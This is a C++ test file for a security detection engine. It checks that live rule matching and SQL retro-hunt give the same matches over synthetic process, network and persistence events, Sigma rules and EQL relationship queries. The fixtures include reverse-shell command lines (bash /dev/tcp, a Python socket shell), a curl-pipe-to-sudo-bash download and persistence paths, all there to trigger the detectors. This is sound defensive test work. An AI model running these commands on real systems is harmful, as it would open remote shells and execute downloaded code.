// Live against retro-hunt: the same rules give the same matches through the live engine (events
// fed one by one in time order) and through the SQL path over a real store holding those events
// (hunt::Run). Covers the built-in Linux pack and sequences (by, maxspan, until) over a synthetic
// host timeline, relationships (child of, descendant of, event of, nested, in sequences and
// pipes) over a process tree, every query of the hunt logic tests that runs live
// (tests/hunt/*.test over their dataset), and every SigmaHQ Windows process_creation rule over
// the Sigma regression samples.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "common/event_json.hpp"
#include "detect/detector.hpp"
#include "detect/engine.hpp"
#include "hunt/hunt.hpp"
#include "hunt/windows_mapping.hpp"
#include "server/store/store.hpp"

namespace fs = std::filesystem;
using namespace vigil;
using nlohmann::json;

namespace {

constexpr std::int64_t kSecond = 1'000'000'000;
constexpr std::int64_t kT0 = 1'760'000'000 * kSecond;

std::string ReadFile(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// Each event gets a unique event.sequence: the identity both paths report.
using Match = std::vector<std::int64_t>;

class LiveRetro : public testing::Test {
 protected:
  void Load(std::vector<v1::Event> events) {
    db_ = fs::path(testing::TempDir()) /
          ("live_retro_" + std::to_string(::getpid()) + "_" +
           testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(db_);
    fs::create_directories(db_);
    db_ /= "vigil.db";
    for (std::size_t i = 0; i < events.size(); ++i)
      events[i].set_event_sequence(static_cast<std::int64_t>(i + 1));
    std::ranges::stable_sort(events, {}, [](const v1::Event& e) { return e.timestamp(); });
    auto store = store::OpenSqliteStore({db_, false});
    ASSERT_TRUE(store) << store.error().message;
    std::vector<store::IngestBatch> batch(1);
    batch[0].events = events;
    ASSERT_TRUE((*store)->Append(batch));
    events_ = std::move(events);
  }

  // Live: every rule on every event, in time order, without suppression.
  std::map<std::string, std::set<Match>> Live(std::vector<detect::LiveRule> rules,
                                              bool prefilter = true) {
    detect::Engine engine({.max_partials_per_rule = 100'000, .prefilter = prefilter});
    engine.SetRules(std::move(rules));
    std::map<std::string, std::set<Match>> out;
    std::vector<detect::EngineMatch> matches;
    for (const auto& e : events_) {
      matches.clear();
      engine.Evaluate(e, matches);
      for (const auto& m : matches) {
        Match ids;
        for (const auto& ev : m.events) ids.push_back(ev.event_sequence());
        out[m.rule->id].insert(ids);
      }
    }
    skipped_ = engine.counters().prefilter_skipped;
    return out;
  }

  // The SQL path's matches; nullopt (and retro_error_) when SQLite cannot run the query.
  std::optional<std::set<Match>> Retro(const hunt::Query& query) {
    std::set<Match> out;
    hunt::HuntOptions options;
    options.limit = 1'000'000;
    auto id = [](const nlohmann::ordered_json& e) {
      return e.at("event.sequence").get<std::int64_t>();
    };
    auto r = hunt::Run(db_, query, options, [&](const nlohmann::ordered_json& row) {
      Match ids;
      if (row.contains("sequence"))
        for (const auto& e : row["sequence"]) ids.push_back(id(e));
      else if (row.contains("sample"))
        for (const auto& e : row["sample"]) ids.push_back(id(e));
      else
        ids.push_back(id(row));
      out.insert(ids);
      return true;
    });
    if (!r) {
      retro_error_ = r.error().message;
      return std::nullopt;
    }
    return out;
  }

  // Parses and compiles a rule; the query is kept for Retro.
  void Add(std::string_view source, std::string_view id) {
    auto spec = detect::ParseRule(source, detect::RuleKind::Eql, id);
    ASSERT_TRUE(spec) << id << ": " << spec.error().message;
    auto live = detect::CompileLive(*spec);
    ASSERT_TRUE(live) << id << ": " << live.error().message;
    queries_[spec->id] = spec->query;
    rules_.push_back(std::move(*live));
  }

  fs::path db_;
  std::vector<v1::Event> events_;
  std::vector<detect::LiveRule> rules_;
  std::map<std::string, std::shared_ptr<const hunt::Query>> queries_;
  std::uint64_t skipped_ = 0;
  std::string retro_error_;
};

v1::Event Ev(const json& j) {
  auto e = EventFromJson(j);
  EXPECT_TRUE(e) << (e ? "" : e.error().message) << j.dump();
  return e ? *e : v1::Event{};
}

json Proc(std::int64_t t, const std::string& entity, const std::string& name,
          const std::string& exe, const std::string& cmd, const std::string& parent = "bash") {
  return {{"@timestamp", kT0 + t * kSecond},
          {"event.category", "process"},
          {"event.type", "start"},
          {"event.action", "exec"},
          {"host.id", "h1"},
          {"host.name", "h1"},
          {"process.entity_id", entity},
          {"process.pid", 100 + t},
          {"process.name", name},
          {"process.executable", exe},
          {"process.command_line", cmd},
          {"process.parent.name", parent}};
}

json Net(std::int64_t t, const std::string& entity, const std::string& name, int port) {
  return {{"@timestamp", kT0 + t * kSecond},
          {"event.category", "network"},
          {"event.type", "start"},
          {"event.action", "connect"},
          {"host.id", "h1"},
          {"host.name", "h1"},
          {"process.entity_id", entity},
          {"process.name", name},
          {"destination.ip", "10.1.2.3"},
          {"destination.port", port}};
}

json Persist(std::int64_t t, const std::string& entity, const std::string& mechanism,
             const std::string& path, const std::string& action = "create") {
  return {{"@timestamp", kT0 + t * kSecond},
          {"event.category", "persistence"},
          {"event.type", action == "inventory" ? "info" : "creation"},
          {"event.action", action},
          {"host.id", "h1"},
          {"host.name", "h1"},
          {"process.entity_id", entity},
          {"vigil.persistence.mechanism", mechanism},
          {"file.path", path}};
}

}  // namespace

TEST_F(LiveRetro, LinuxPackAndSequencesGiveTheSameMatches) {
  std::vector<v1::Event> events;
  int t = 0;
  for (int round = 0; round < 3; ++round) {
    const std::string r = std::to_string(round);
    events.push_back(Ev(Proc(t++, "sh" + r, "bash", "/usr/bin/bash",
                             "bash -c bash -i >& /dev/tcp/10.1.2.3/4444 0>&1")));
    events.push_back(Ev(Net(t++, "sh" + r, "bash", 4444)));
    events.push_back(
        Ev(Proc(t++, "dl" + r, "sh", "/usr/bin/sh", "sh -c curl -fsSL http://x/i.sh | sudo bash")));
    events.push_back(
        Ev(Proc(t++, "ok" + r, "sh", "/usr/bin/sh", "sh -c curl -o out http://x/i.sh")));
    events.push_back(Ev(Proc(t++, "tmp" + r, "payload", "/tmp/payload", "/tmp/payload")));
    events.push_back(Ev(Proc(t++, "shm" + r, "x", "/dev/shm/.x", "/dev/shm/.x -d")));
    events.push_back(Ev(Proc(t++, "usr" + r, "ls", "/usr/bin/ls", "ls /tmp")));
    events.push_back(Ev(Persist(t++, "cr" + r, "cron", "/etc/cron.d/job")));
    events.push_back(Ev(Persist(t++, "cr" + r, "cron", "/etc/cron.d/old", "inventory")));
    events.push_back(Ev(Persist(t++, "sd" + r, "systemd", "/etc/systemd/system/x.service")));
    events.push_back(Ev(Persist(t++, "rc" + r, "rc", "/etc/rc.local")));
    events.push_back(Ev(Persist(t++, "pr" + r, "profile", "/root/.bashrc")));
    events.push_back(Ev(Persist(t++, "ld" + r, "ld_preload", "/etc/ld.so.preload")));
    events.push_back(Ev(Persist(t++, "ak" + r, "authorized_keys", "/root/.ssh/authorized_keys")));
    events.push_back(Ev(Persist(t++, "km" + r, "kernel_module", "/x.ko", "module_load")));
    events.push_back(Ev(Proc(t++, "fs" + r, "sh", "/usr/bin/sh", "/bin/sh -c id", "find")));
    auto find = Proc(t++, "fi" + r, "find", "/usr/bin/find", "find . -exec /bin/sh -c id ;");
    find["process.args"] = {"find", ".", "-exec", "/bin/sh", "-c", "id", ";"};
    events.push_back(Ev(find));
    events.push_back(Ev(Proc(t++, "py" + r, "python3.11", "/usr/bin/python3.11",
                             "python3 -c import socket,os;s=socket.socket();s.connect(('h',1));"
                             "os.dup2(s.fileno(),0);os.system('/bin/sh')")));
    // For the sequences: shell, then a connection by the same process, sometimes too late, and
    // sometimes ended by an exit (until).
    events.push_back(Ev(Proc(t++, "q" + r, "bash", "/usr/bin/bash", "bash")));
    if (round == 1) t += 120;
    if (round == 2) {
      auto exit = Proc(t++, "q" + r, "bash", "/usr/bin/bash", "bash");
      exit["event.action"] = "exit";
      events.push_back(Ev(exit));
    }
    events.push_back(Ev(Net(t++, "q" + r, "bash", 443)));
  }
  Load(std::move(events));

  for (const auto& b : detect::BuiltinRules()) Add(b.source, b.file);
  Add(R"(sequence by process.entity_id with maxspan=1m
           [process where process.name == "bash"] [network where true])",
      "seq-maxspan");
  Add(R"(sequence by process.entity_id
           [process where event.action == "exec" and process.name == "bash"]
           [network where destination.port > 0]
         until [process where event.action == "exit"])",
      "seq-until");
  Add(R"(sequence by host.id [persistence where true] [persistence where true]
           [process where process.name : "python*"])",
      "seq-three-steps");

  auto live = Live(std::move(rules_));
  std::size_t total = 0;
  for (const auto& [id, query] : queries_) {
    auto retro = Retro(*query);
    ASSERT_TRUE(retro) << id << ": " << retro_error_;
    EXPECT_EQ(live[id], *retro) << id;
    total += retro->size();
    // Every rule of the pack fires on this timeline (kernel module loads too).
    // (YARA findings and guard denials are not part of this timeline: test_scan_jobs.py and
    // test_guard.py fire those rules.)
    if (id != "vigil-linux-yara-finding" && id != "vigil-linux-guard-denial") {
      EXPECT_FALSE(retro->empty()) << id << " never fired";
    }
  }
  // Which rounds' "q" processes (shell, later a connection) completed the sequences.
  auto rounds = [&](const std::set<Match>& matches) {
    std::set<int> out;
    for (const auto& m : matches)
      for (const auto& e : events_)
        if (e.event_sequence() == m.front() && e.process_entity_id().starts_with("q"))
          out.insert(e.process_entity_id()[1] - '0');
    return out;
  };
  EXPECT_EQ(rounds(live["seq-maxspan"]), (std::set<int>{0, 2}));  // round 1: too late
  EXPECT_EQ(rounds(live["seq-until"]), (std::set<int>{0, 1}));    // round 2: exited first
  std::cout << queries_.size() << " rules, " << total << " matches, live == retro\n";
}

TEST_F(LiveRetro, SigmaProcessCreationRulesOverTheRegressionSamples) {
  const fs::path corpus = VIGIL_SIGMA_CORPUS;
  if (!fs::exists(corpus / "regression")) GTEST_SKIP() << "no Sigma corpus at " << corpus;
  std::vector<v1::Event> events;
  for (const auto& f : fs::recursive_directory_iterator(corpus / "regression")) {
    if (f.path().extension() != ".json") continue;
    auto records = hunt::ParseWindowsRecords(ReadFile(f.path()));
    if (!records) continue;
    for (const auto& rec : *records)
      if (auto e = hunt::MapWindowsEvent(rec)) events.push_back(std::move(*e));
  }
  ASSERT_GT(events.size(), 100u);
  Load(std::move(events));

  std::vector<detect::LiveRule> rules, unfiltered;
  std::map<std::string, std::shared_ptr<const hunt::Query>> queries;
  std::size_t unsupported = 0;
  for (const auto& f :
       fs::recursive_directory_iterator(corpus / "rules/windows/process_creation")) {
    if (f.path().extension() != ".yml") continue;
    auto spec =
        detect::ParseRule(ReadFile(f.path()), detect::RuleKind::Sigma, f.path().stem().string());
    if (!spec) {
      ++unsupported;
      continue;
    }
    auto live = detect::CompileLive(*spec);
    ASSERT_TRUE(live) << f.path() << ": " << live.error().message;
    if (queries.contains(spec->id)) continue;
    queries[spec->id] = spec->query;
    rules.push_back(std::move(*live));
    unfiltered.push_back(std::move(*detect::CompileLive(*spec)));
  }
  ASSERT_GT(rules.size(), 1000u);
  // The prefilter changes nothing but the work done.
  auto without = Live(std::move(unfiltered), /*prefilter=*/false);
  EXPECT_EQ(skipped_, 0u);
  auto live = Live(std::move(rules));
  EXPECT_GT(skipped_, 0u);
  EXPECT_EQ(live, without);
  std::size_t fired = 0, matches = 0;
  std::vector<std::string> sql_failed;
  for (const auto& [id, query] : queries) {
    auto retro = Retro(*query);
    if (!retro) {  // a limit of the SQL path (SQLite's expression depth), not of live matching
      sql_failed.push_back(id + ": " + retro_error_);
      continue;
    }
    EXPECT_EQ(live[id], *retro) << id;
    fired += !retro->empty();
    matches += retro->size();
  }
  std::cout << queries.size() << " Sigma rules (" << unsupported << " not supported), " << fired
            << " fire, " << matches << " matches, live == retro; the SQL path cannot run "
            << sql_failed.size() << ":\n";
  for (const auto& f : sql_failed) std::cout << "  " << f << "\n";
  EXPECT_LE(sql_failed.size(), 2u);
  EXPECT_GT(fired, 20u);
}

namespace {

// A process event with its parent's entity id ("" for none).
json Spawn(std::int64_t t, const std::string& entity, const std::string& parent,
           const std::string& name, const std::string& host = "h1",
           const std::string& action = "exec") {
  json j = {{"@timestamp", kT0 + t * kSecond},
            {"event.category", "process"},
            {"event.type", action == "exit" ? "end" : "start"},
            {"event.action", action},
            {"host.id", host},
            {"host.name", host},
            {"process.entity_id", entity},
            {"process.pid", t + 1},
            {"process.name", name},
            {"process.executable", "/usr/bin/" + name}};
  if (!parent.empty()) j["process.parent.entity_id"] = parent;
  return j;
}

json Other(std::int64_t t, const std::string& category, const std::string& entity,
           const std::string& name, const std::string& host = "h1") {
  json j = {{"@timestamp", kT0 + t * kSecond},
            {"event.category", category},
            {"event.type", "info"},
            {"host.id", host},
            {"host.name", host},
            {"process.entity_id", entity},
            {"process.name", name}};
  if (category == "network") j["destination.port"] = name == "nc" ? 4444 : 443;
  if (category == "file") j["file.path"] = "/tmp/" + name + ".out";
  if (category == "dns") j["dns.question.name"] = name + ".example.com";
  return j;
}

}  // namespace

// Relationships run live with the SQL path's (Endgame) semantics over a process tree whose events
// arrive in the natural order (a process's events after its parent's start).
TEST_F(LiveRetro, RelationshipsGiveTheSameMatches) {
  std::vector<v1::Event> events;
  int t = 0;
  for (const json& j : {
           Spawn(t++, "p1", "", "systemd"),          Spawn(t++, "p10", "p1", "sshd"),
           Spawn(t++, "p20", "p10", "sshd"),         Spawn(t++, "p30", "p20", "bash"),
           Spawn(t++, "p40", "p30", "curl"),         Other(t++, "network", "p40", "curl"),
           Other(t++, "file", "p40", "curl"),        Spawn(t++, "p50", "p30", "sh"),
           Spawn(t++, "p60", "p50", "nc"),           Other(t++, "network", "p60", "nc"),
           Other(t++, "dns", "p60", "nc"),           Spawn(t++, "p50", "p30", "sh", "h1", "exit"),
           Spawn(t++, "p61", "p60", "cat"),          Spawn(t++, "p70", "p1", "cron"),
           Spawn(t++, "p80", "p70", "bash"),         Spawn(t++, "p90", "p80", "tar"),
           Other(t++, "file", "p90", "tar"),         Spawn(t++, "p95", "p94", "python3"),
           Other(t++, "dns", "p95", "python3"),      Spawn(t++, "p200", "p199", "bash", "h2"),
           Spawn(t++, "p210", "p200", "curl", "h2"), Other(t++, "file", "p210", "curl", "h2"),
           Other(t++, "network", "p999", "ghost"),   Spawn(t++, "p60", "p50", "nc", "h1", "exit"),
       })
    events.push_back(Ev(j));
  Load(std::move(events));

  Add(R"(process where child of [process where process.name == "bash"])", "child");
  Add(R"(process where descendant of [process where process.name == "sshd"])", "descendant");
  Add(R"(network where descendant of [process where process.name == "sshd"])", "descendant-net");
  Add(R"(dns where child of [process where process.name == "sh"])", "child-dns");
  Add(R"(file where event of [process where process.name == "curl"])", "event-of");
  Add(R"(any where event of [process where process.name == "nc"])", "event-of-any");
  Add(R"(process where child of [process where process.name == "bash" and
           descendant of [process where process.name == "cron"]])",
      "nested");
  Add(R"(process where process.name == "bash" and
           not descendant of [process where process.name == "sshd"])",
      "not-descendant");
  Add(R"(process where child of [process where process.name == "sh"] and
           descendant of [process where process.name == "bash"])",
      "two");
  Add(R"(sequence by host.id [process where descendant of [process where process.name == "sshd"]]
           [network where destination.port == 4444])",
      "in-sequence");
  Add(R"(sequence by host.id [process where process.name == "bash"] [file where true]
         | filter descendant of [process where process.name == "sshd"])",
      "in-filter-pipe");
  Add(R"(process where descendant of [process where process.name == "nope"])", "none");
  auto live = Live(std::move(rules_));
  // The events each rule must give, by event.sequence (1-based position in the list above).
  const std::map<std::string, std::set<Match>> expected = {
      {"child", {{5}, {8}, {12}, {16}, {21}}},
      {"descendant", {{3}, {4}, {5}, {8}, {9}, {12}, {13}, {24}}},
      {"descendant-net", {{6}, {10}}},
      {"child-dns", {{11}}},
      {"event-of", {{7}, {22}}},
      {"event-of-any", {{9}, {10}, {11}, {24}}},
      {"nested", {{16}}},
      {"not-descendant", {{15}, {20}}},
      {"two", {{9}, {24}}},
      {"in-sequence", {{9, 10}}},
      {"in-filter-pipe", {{4, 7}}},
      {"none", {}},
  };
  for (const auto& [id, query] : queries_) {
    auto retro = Retro(*query);
    ASSERT_TRUE(retro) << id << ": " << retro_error_;
    EXPECT_EQ(live[id], *retro) << id;
    EXPECT_EQ(live[id], expected.at(id)) << id;
  }
}

// Where live and retro-hunt differ by design: live only knows the past, so `event of [q]` holds
// from the first event of the process that matched q on; the SQL path sees all of history.
TEST_F(LiveRetro, RelationshipsSeeOnlyThePastLive) {
  Load({Ev(Spawn(0, "p1", "", "bash")), Ev(Other(1, "network", "p1", "nc")),
        Ev(Spawn(2, "p1", "", "bash", "h1", "exit"))});
  Add(R"(process where event of [network where destination.port == 4444])", "later");
  auto live = Live(std::move(rules_));
  auto retro = Retro(*queries_["later"]);
  ASSERT_TRUE(retro);
  EXPECT_EQ(*retro, (std::set<Match>{{1}, {3}}));
  EXPECT_EQ(live["later"], (std::set<Match>{{3}}));
}

// Every query of the hunt logic tests (tests/hunt/*.test over their datasets) that compiles live
// gives the same matches live as through the SQL path, except relationships whose inner query
// matches a later event (RelationshipsSeeOnlyThePastLive): there live gives a subset.
TEST_F(LiveRetro, HuntLogicTestQueriesGiveTheSameMatches) {
  const fs::path dir = VIGIL_HUNT_TESTS;
  std::string loaded;
  auto load = [&](const std::string& dataset) {
    if (dataset == loaded) return;
    std::vector<v1::Event> events;
    std::istringstream data(ReadFile(dir / "data" / dataset));
    for (std::string line; std::getline(data, line);)
      if (!line.empty() && line[0] != '#') events.push_back(Ev(json::parse(line)));
    ASSERT_GE(events.size(), 10u) << dataset;
    Load(std::move(events));
    loaded = dataset;
  };
  std::size_t compared = 0, equal = 0, refused = 0, subset = 0;
  for (const char* file : {"basics.test", "operators.test", "functions.test", "sequences.test",
                           "relationships.test", "pipes.test", "extra.test", "missing.test"}) {
    const std::string source = ReadFile(dir / file);
    const auto dataset_at = source.find("\ndataset ");  // the file's first dataset
    ASSERT_NE(dataset_at, std::string::npos) << file;
    load(source.substr(dataset_at + 9, source.find('\n', dataset_at + 1) - dataset_at - 9));
    std::istringstream in(source);
    std::string line;
    int n = 0;
    while (std::getline(in, line)) {
      if (!line.starts_with("query")) continue;
      const bool options = line.find('=') != std::string::npos;  // limit=, host=, since=...
      std::string text, more;
      while (std::getline(in, more) && more != "----") text += more + "\n";
      if (options) continue;
      const std::string id = std::string(file) + "#" + std::to_string(++n);
      auto spec = detect::ParseRule(text, detect::RuleKind::Eql, "q");
      if (!spec) continue;  // not valid EQL alone (a logic test of errors)
      auto live_rule = detect::CompileLive(*spec);
      if (!live_rule) {
        ++refused;
        continue;
      }
      live_rule->id = id;
      auto retro = Retro(*spec->query);
      if (!retro) continue;
      std::vector<detect::LiveRule> one;
      one.push_back(std::move(*live_rule));
      auto live = Live(std::move(one))[id];
      ++compared;
      if (live == *retro) {
        ++equal;
        continue;
      }
      const bool relationship = text.find(" of [") != std::string::npos;
      EXPECT_TRUE(relationship) << id << ": live differs from retro-hunt\n" << text;
      EXPECT_TRUE(std::ranges::includes(*retro, live)) << id << ": live is not a subset\n" << text;
      ++subset;
    }
  }
  std::cout << compared << " logic-test queries run live: " << equal << " equal to retro-hunt, "
            << subset << " a subset (relationships to later events); " << refused
            << " refused live (count, sort, tail, unique_count, pipes on events[N], missing-event "
               "steps first or last)\n";
  EXPECT_GT(compared, 100u);
  EXPECT_LE(subset, 4u);
}
